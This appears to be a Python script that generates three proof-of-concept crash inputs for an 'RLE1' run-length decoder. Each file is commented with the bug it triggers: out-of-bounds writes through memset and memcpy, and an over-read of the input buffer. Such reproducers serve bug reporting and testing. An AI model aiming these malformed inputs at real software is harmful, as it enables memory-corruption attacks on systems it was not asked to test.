#!/usr/bin/env python3
"""Write the proof-of-concept inputs next to this script (the .bin files are committed too).

Each is a well-formed RLE1 header followed by a run the decoder trusts blindly:
  crash-1.bin  a repeat run longer than the declared size: memset writes past the output buffer
  crash-2.bin  a valid repeat run, then a literal run longer than what is left of the
               declared size: memcpy writes past the output buffer
  crash-3.bin  a literal run that fits the declared size but is longer than the rest of the
               input: memcpy reads past the input buffer
"""

import struct
from pathlib import Path


def stream(size: int, body: bytes) -> bytes:
    return b"RLE1" + struct.pack("<I", size) + body


POCS = {
    # 0xff = repeat 'A' 130 times, into a 16-byte buffer
    "crash-1.bin": stream(16, b"\xff" + b"A"),
    # 0x81 = repeat 'z' 4 times (fits), then 0x7f = 128 literal bytes into the 4 left
    "crash-2.bin": stream(8, b"\x81" + b"z" + b"\x7f" + bytes(range(128))),
    # 0x81 = repeat 'z' 4 times, then 0x3f = 64 literal bytes of which only 5 are present
    "crash-3.bin": stream(100, b"\x81" + b"z" + b"\x3f" + b"short"),
}

if __name__ == "__main__":
    here = Path(__file__).resolve().parent
    for name, data in POCS.items():
        (here / name).write_bytes(data)
        print(f"wrote {name} ({len(data)} bytes)")
